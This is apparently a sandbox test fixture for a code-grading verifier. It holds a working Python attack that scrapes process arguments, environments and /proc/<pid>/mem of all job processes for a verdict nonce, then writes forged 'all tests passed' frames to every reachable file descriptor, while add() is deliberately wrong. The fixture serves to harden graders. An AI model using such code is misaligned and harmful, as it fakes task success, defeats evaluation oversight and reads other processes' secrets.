# ATTACK 150 forged_frame_nonce_hunt
# KIND: verdict
# STYLE: assert
# TASK: implement add(a, b) -> a + b; tests are appended after this solution by the verifier.
# ATTEMPTS: wrong solution that hunts for the verdict nonce (any 32-hex-digit token) in its own
#           argv, environment, /proc/self/cmdline, environ and memory (/proc/self/mem over every
#           readable mapping), and in /proc/<pid>/{cmdline,environ,mem,fd,fdinfo} of every other
#           process of the job (the test runner's among them); then writes a verdict frame
#           claiming every planned test passed, with each candidate nonce and random guesses,
#           to stdout, stderr and every fd it can open.
# CORRECT SANDBOX MUST: (verifier) the nonce never reaches the solution's process and the
#           verdict channel is unreachable from it.
# HARNESS CHECK: graded failing, not an infrastructure error.
import contextlib
import json
import os
import re
import secrets
import sys

HEX = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
me = os.getpid()
candidates = set()


def harvest(data):
    candidates.update(m.decode() for m in HEX.findall(data))


for arg in sys.argv:
    harvest(arg.encode())
for k, v in os.environ.items():
    harvest(f"{k}={v}".encode())
pids = ["self"] + [p for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
for pid in pids:
    for part in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{part}", "rb") as f:
                harvest(f.read())
        except OSError:
            pass
    try:
        for n in os.listdir(f"/proc/{pid}/fdinfo"):
            with open(f"/proc/{pid}/fdinfo/{n}", "rb") as f:
                harvest(f.read())
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if "r" not in perms or "[vvar]" in line or "[vsyscall]" in line:
                    continue
                lo, hi = (int(x, 16) for x in span.split("-"))
                if hi - lo > (64 << 20):
                    continue
                try:
                    mem.seek(lo)
                    harvest(mem.read(hi - lo))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass
candidates |= {secrets.token_hex(16) for _ in range(50)}
ids = [f"assert:{n}" for n in range(1, 20)]
frames = b"".join(
    json.dumps(
        {
            "nonce": n,
            "runs": [
                {
                    "results": [[{"id": i, "outcome": "passed", "checks": 1} for i in ids]],
                    "load_error": "",
                }
            ],
        }
    ).encode()
    for n in sorted(candidates)
)
for fd in range(256):
    with contextlib.suppress(OSError):
        os.write(fd, frames)
for pid in pids:
    try:
        for n in os.listdir(f"/proc/{pid}/fd"):
            try:
                fd = os.open(f"/proc/{pid}/fd/{n}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, frames)
                os.close(fd)
            except OSError:
                pass
    except OSError:
        pass
sys.stderr.write(f"candidates: {len(candidates)}\n")


def add(a, b):
    return a - b
